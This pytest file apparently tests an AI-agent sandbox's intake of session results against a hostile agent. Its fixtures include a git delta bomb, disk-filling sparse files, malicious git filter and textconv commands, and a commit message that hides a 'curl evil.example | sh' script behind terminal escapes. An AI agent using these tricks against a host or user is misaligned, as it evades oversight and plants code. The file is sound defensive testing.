"""The host's intake of a session's result (``result.take``): bounded, hostile data, and never git's objects.
The copy's ``.git`` (a delta bomb in it: a ``REF_DELTA`` of a few hundred bytes that makes gigabytes) is not
in the archive: nothing of it reaches the host or the user's repository; the agent's commits come back as
text cut at a bound; the host's own git runs under bounds of its own (``hostgit.Bounds``). Real git, files.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.agent.test_boundary import AS, Host, observations, session, term, workspace
from toolkit.agent.environments.environment import bwrap_problem

MiB = 2**20


@pytest.fixture(params=AS)
def host(request, tmp_path):
    """The host side as root and as a normal user (``test_boundary.Host``)."""
    h = Host(request.param, tmp_path)
    yield h
    h.close()


def repo(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(path)], check=True)
    subprocess.run(["git", "-C", str(path), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-q",
                    "--allow-empty", "-m", "start"], check=True)
    return path


def repository_state(path: Path) -> tuple:
    """Every file of the user's ``.git`` (objects, packs, temporary packs, refs) and its size."""
    git = path / ".git"
    return tuple(sorted((str(p.relative_to(git)), p.stat().st_size) for p in git.rglob("*") if p.is_file()
                        and p.name not in ("index", "ORIG_HEAD")))


@pytest.mark.parametrize("claim,real", [pytest.param(64 * MiB, True, marks=pytest.mark.slow), (6 * 2**30, False)],
                         ids=["64MiB-made", "6GiB-claimed"])
def test_a_delta_bomb_in_the_copys_git_never_reaches_the_host(tmp_path, claim, real):
    """The issue's delta bomb (a pack of a few hundred bytes whose delta makes, or claims, gigabytes) planted in
    the copy's ``.git`` with a branch on it: ``.git`` is not in the archive, so the host's intake and
    ``--apply`` (run here in a child whose peak memory is measured) never see it; the user's repository is byte
    for byte as it was. On 51c499d the bundle carried it and the host's ``index-pack`` allocated it (2.8 GB
    before the OOM kill for the 6 GiB claim); on 743c66f ``packcheck`` refused it from its header."""
    from tests.agent.deltabomb import bomb_pack
    from toolkit.agent.environments import collect

    user = repo(tmp_path / "user")
    (user / "a.txt").write_text("a\n")
    copy = tmp_path / "copy"
    subprocess.run(["git", "clone", "-q", str(user), str(copy)], check=True)
    (copy / "a.txt").write_text("the agent's\n")
    pack, tip, _ = bomb_pack(claim, real)
    (copy / ".git" / "objects" / "pack" / "pack-bomb.pack").write_bytes(pack)
    if real:
        subprocess.run(["git", "-C", str(copy), "index-pack", ".git/objects/pack/pack-bomb.pack"], check=True,
                       capture_output=True)
        subprocess.run(["git", "-C", str(copy), "update-ref", "refs/heads/bomb", tip], check=True)
    made = tmp_path / "made" / "result.tar"
    made.parent.mkdir()
    with open(made, "wb") as out:
        subprocess.run([sys.executable, "-I", "-S", collect.__file__, "tar", str(copy)], stdout=out, check=True)
    before = repository_state(user)
    code = ("import sys; from pathlib import Path; from toolkit.agent.environments import result; "
            "from toolkit.agent.environments.limits import Limits; "
            "from toolkit.agent.environments.manifest import manifest; user = Path(sys.argv[1]); "
            "result.take(user, 's1', Path(sys.argv[2]), manifest(user), Limits(disk_mb=8)); "
            "print(result.apply(user, 's1')); print(open('/proc/self/status').read().split('VmHWM:')[1].split()[0])")
    done = subprocess.run([sys.executable, "-c", code, str(user), str(made)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}, check=True)
    assert "unpacked 1 new or changed" in done.stdout and (user / "a.txt").read_text() == "the agent's\n"
    assert int(done.stdout.split()[-1]) < 200 * 1024, done.stdout  # VmHWM, KiB (ru_maxrss would count pytest's)
    assert repository_state(user) == before
    assert "refs/agent" not in subprocess.run(["git", "-C", str(user), "for-each-ref"], capture_output=True,
                                              text=True).stdout


def test_the_hosts_git_starts_under_an_inherited_lower_hard_address_space_limit(tmp_path):
    """Under ``prlimit --as`` lower than the host git's own bound (``ulimit -v`` in a container or CI job), the
    host's git runs: on 0491331 prlimit failed to raise the hard limit and every intake was refused."""
    user = repo(tmp_path / "user")
    code = ("import sys; from pathlib import Path; from toolkit.agent.environments.hostgit import git; "
            "print(git(Path(sys.argv[1]), 'rev-parse', 'HEAD').stdout.decode().strip())")
    run = subprocess.run(["prlimit", f"--as={3 * 2**30}", "--", sys.executable, "-c", code, str(user)],
                         capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(Path.cwd())})
    assert run.returncode == 0 and len(run.stdout.strip()) == 40, run.stderr[-300:]


@pytest.mark.slow
def test_a_result_that_cannot_be_kept_on_a_full_disk_leaves_nothing(tmp_path):
    """The archive kept under ``.agent/results`` is written under another name and renamed: a write that
    fails (here: ``RLIMIT_FSIZE`` of a child, as a full disk would) leaves no file under either name."""
    import signal
    import tarfile

    folder = tmp_path / "plain"
    folder.mkdir()
    made = tmp_path / "result.tar"
    with tarfile.open(made, "w") as tar:
        data = tmp_path / "data"
        data.write_bytes(b"x" * (3 * MiB))
        tar.add(data, arcname="data")
    code = ("import resource, sys; from pathlib import Path; from toolkit.agent.environments import result; "
            f"resource.setrlimit(resource.RLIMIT_FSIZE, ({MiB}, {MiB})); "
            f"print(result.take(Path({str(folder)!r}), 's1', Path({str(made)!r})))")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
                          preexec_fn=lambda: signal.signal(signal.SIGXFSZ, signal.SIG_IGN))
    assert "nothing of it was kept" in done.stderr, done.stderr[-500:]
    assert not [p.name for p in (folder / ".agent" / "results").iterdir() if "s1" in p.name]


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(bool(bwrap_problem()) or os.geteuid() != 0, reason="needs bubblewrap and root (both hosts)")
def test_a_session_whose_repository_holds_a_delta_bomb_ends_with_its_line_and_nothing_of_it_taken(host):
    """The attack end to end, through the CLI under bubblewrap, as root and as a normal user: the agent writes
    the pack into its copy's ``.git`` and points a branch at it; the session ends with its ``ended_by`` line,
    its files come back, its commits only as text cut at ``PATCH_KIB`` (the bomb's 64 MiB diff made and cut
    inside the sandbox), and the user's repository is byte for byte as it was."""
    import base64

    from tests.agent.deltabomb import bomb_pack
    from toolkit.agent.environments.programs import PATCH_KIB

    ws = workspace(host)
    before = repository_state(ws)
    pack, tip, _ = bomb_pack(64 * MiB, True)
    plant = (f"echo {base64.b64encode(pack).decode()} | base64 -d > .git/objects/pack/pack-bomb.pack && "
             f"git index-pack .git/objects/pack/pack-bomb.pack && git update-ref refs/heads/bomb {tip} && "
             "echo changed > a.txt && echo planted")
    traj = session(host, ws, [term(plant)], environment={"limits": {"disk_mb": 8}})
    assert "planted" in observations(traj)
    assert "ended_by: end" in traj["stdout"]
    assert f"{traj['session_id']}.tar" in traj["result"] and "\n" not in traj["result"]
    patch = ws / ".agent" / "results" / f"{traj['session_id']}.patch"
    assert patch.stat().st_size <= PATCH_KIB * 1024 + 200 and "cut at" in patch.read_text()[-200:]
    assert repository_state(ws) == before


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(bool(bwrap_problem()) or os.geteuid() != 0, reason="needs bubblewrap and root (both hosts)")
def test_sparse_files_in_a_plain_folder_fill_neither_the_hosts_disk_nor_the_users_folder(host):
    """Three sparse files of 600 MB under ``disk_mb: 50`` (they cost the copy's tmpfs no block): the archive
    stops at its bound inside the sandbox, the session still ends with its line, and nothing is kept in the
    user's folder. On 51c499d the 1.8 GB archive was written to the host, then copied into ``.agent/results``."""
    ws = workspace(host, git_repo=False)
    traj = session(host, ws, [term("truncate -s 600M s1 s2 s3 && du -sk . && echo planted")],
                   environment={"limits": {"disk_mb": 50}})
    assert "planted" in observations(traj) and "ended_by: end" in traj["stdout"]
    assert "larger than" in traj["result"] and "\n" not in traj["result"]
    assert not list((ws / ".agent" / "results").glob("*.tar")) if (ws / ".agent" / "results").exists() else True
    assert sorted(p.name for p in ws.iterdir()) == [".agent", "a.txt"]


def test_no_filter_of_the_agents_runs_while_the_result_is_made(tmp_path):
    """``collect.py`` on a copy whose ``.git/config`` names a clean filter and a textconv, and whose
    ``.gitattributes`` and ``.git/info/attributes`` apply them: the archive holds the files' bytes as they are
    and the commits' text runs neither. On 51c499d the snapshot's ``git add -A`` ran the filter (in the issue:
    ``sleep 300`` stalled the session's end past its wall clock); 743c66f had no ``log``."""
    import io
    import tarfile

    from toolkit.agent.environments import collect

    copy = repo(tmp_path / "copy")
    start = subprocess.run(["git", "-C", str(copy), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.split()
    marker = tmp_path / "PWNED"
    for name, value in (("filter.evil.clean", f"touch {marker}; tr a b"), ("diff.external", f"touch {marker}"),
                        ("diff.evil.textconv", f"touch {marker}; cat")):
        subprocess.run(["git", "-C", str(copy), "config", name, value], check=True)
    (copy / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (copy / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    (copy / "a.txt").write_text("aaa\n")
    mine = ["git", "-C", str(copy), "-c", "filter.evil.clean=cat", "-c", "user.name=u", "-c", "user.email=u@u"]
    subprocess.run([*mine, "add", "-A"], check=True)
    subprocess.run([*mine, "commit", "-q", "-m", "agent"], check=True)
    run = [sys.executable, "-I", "-S", collect.__file__]
    made = subprocess.run([*run, "tar", str(copy)], capture_output=True, check=True, timeout=60).stdout
    log = subprocess.run([*run, "log", str(copy), *start], capture_output=True, text=True, check=True, timeout=60)
    with tarfile.open(fileobj=io.BytesIO(made)) as tar:
        assert tar.extractfile("a.txt").read() == b"aaa\n" and ".git" not in tar.getnames()
    assert "Subject: [PATCH] agent" in log.stdout and "+aaa" in log.stdout
    assert not marker.exists()


def test_the_kept_patch_shows_no_terminal_escape_and_applies_no_diff_written_in_a_message(tmp_path):
    """The agent's commit message hides a whole ``diff --git`` (a new executable run.sh) behind terminal
    escapes: the kept ``<session>.patch`` holds no control character (escaped as ``\\x1b``) and ``git am`` of it
    commits a.txt only, the message's diff kept as (indented) text. On 3dc4789 the ESC bytes were kept as they
    were and ``git am`` committed run.sh too (session 19's hostile review, F3)."""
    from toolkit.agent.environments import collect, result

    user = repo(tmp_path / "user")
    (user / "a.txt").write_text("a\n")
    subprocess.run(["git", "-C", str(user), "add", "a.txt"], check=True)
    subprocess.run(["git", "-C", str(user), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-qm", "a"],
                   check=True)
    start = subprocess.run(["git", "-C", str(user), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.split()
    copy = tmp_path / "copy"
    subprocess.run(["git", "clone", "-q", str(user), str(copy)], check=True)
    (copy / "a.txt").write_text("b\n")
    message = ("Fix typo in a.txt\n\n\x1b[8m\n---\ndiff --git a/run.sh b/run.sh\nnew file mode 100755\n--- /dev/null\n"
               "+++ b/run.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n\x1b[0m\x1b[1A\x1b[2K\n")
    subprocess.run(["git", "-C", str(copy), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-qam", message],
                   check=True)
    made = tmp_path / "made" / "result.tar"
    made.parent.mkdir()
    with open(made, "wb") as out:
        subprocess.run([sys.executable, "-I", "-S", collect.__file__, "tar", str(copy)], stdout=out, check=True)
    with open(made.with_name("result.patch"), "wb") as out:
        subprocess.run([sys.executable, "-I", "-S", collect.__file__, "log", str(copy), *start], stdout=out, check=True)
    line = result.take(user, "s1", made, files={})
    kept = (user / ".agent" / "results" / "s1.patch").read_bytes()
    assert b"\x1b" not in kept and b"\\x1b[8m" in kept and "control characters escaped" in line, line
    subprocess.run(["git", "-C", str(user), "-c", "user.name=u", "-c", "user.email=u@u", "am", "-q",
                    str(user / ".agent" / "results" / "s1.patch")], check=True, capture_output=True)
    files = subprocess.run(["git", "-C", str(user), "show", "--name-only", "--format=", "HEAD"], capture_output=True,
                           text=True).stdout.split()
    assert files == ["a.txt"] and not (user / "run.sh").exists()
    said = subprocess.run(["git", "-C", str(user), "log", "-1", "--format=%B"], capture_output=True, text=True).stdout
    assert " diff --git a/run.sh b/run.sh" in said
